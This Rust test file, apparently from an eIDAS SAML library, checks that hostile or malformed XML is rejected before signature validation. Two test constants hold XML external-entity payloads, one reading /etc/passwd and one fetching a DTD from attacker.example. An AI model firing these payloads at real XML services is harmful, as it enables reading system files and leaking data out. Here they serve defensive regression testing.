//! Hostile input never gets past the first stage.

use std::error::Error as _;

use eidas_saml_engine::{ErrorCode, SecureXmlProcessor};

use crate::common::Federation;

const XXE_REQUEST: &str = r#"<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<saml2p:AuthnRequest xmlns:saml2p="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0" IssueInstant="2026-10-16T09:30:00Z">&xxe;</saml2p:AuthnRequest>"#;

const PARAMETER_ENTITY: &str = r#"<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<saml2p:Response xmlns:saml2p="urn:oasis:names:tc:SAML:2.0:protocol"/>"#;

#[test]
fn doctype_request_is_rejected_before_signature() -> anyhow::Result<()> {
    let federation = Federation::new()?;
    let err = federation
        .proxy()?
        .unmarshall_request(XXE_REQUEST.as_bytes())
        .expect_err("DOCTYPE must be refused");
    assert_eq!(err.code(), ErrorCode::MessageValidationError);
    assert!(err.source().is_some(), "parser diagnostic is kept");
    assert!(!err.to_string().contains("root:"));
    Ok(())
}

#[test]
fn parameter_entity_response_is_rejected() -> anyhow::Result<()> {
    let federation = Federation::new()?;
    let err = federation
        .connector()?
        .unmarshall_response(PARAMETER_ENTITY.as_bytes())
        .expect_err("DOCTYPE must be refused");
    assert_eq!(err.code(), ErrorCode::MessageValidationError);
    Ok(())
}

#[test]
fn hardened_processor_reports_malformed_xml() {
    let err = SecureXmlProcessor::shared()
        .parse(XXE_REQUEST.as_bytes())
        .expect_err("DOCTYPE must be refused");
    assert_eq!(err.code(), ErrorCode::MalformedXml);
}

#[test]
fn control_characters_are_not_xml() {
    let err = SecureXmlProcessor::shared()
        .parse("<saml2p:Response xmlns:saml2p=\"urn:oasis:names:tc:SAML:2.0:protocol\">\u{0}</saml2p:Response>".as_bytes())
        .expect_err("NUL must be refused");
    assert_eq!(err.code(), ErrorCode::MalformedXml);
}

#[test]
fn garbage_and_foreign_roots_are_rejected() -> anyhow::Result<()> {
    let federation = Federation::new()?;
    let proxy = federation.proxy()?;

    let err = proxy
        .unmarshall_request(b"not xml at all <")
        .expect_err("garbage");
    assert!(err.is_validation());

    let err = proxy
        .unmarshall_request(br#"<html xmlns="http://www.w3.org/1999/xhtml"/>"#)
        .expect_err("foreign root");
    assert!(err.is_validation());
    Ok(())
}
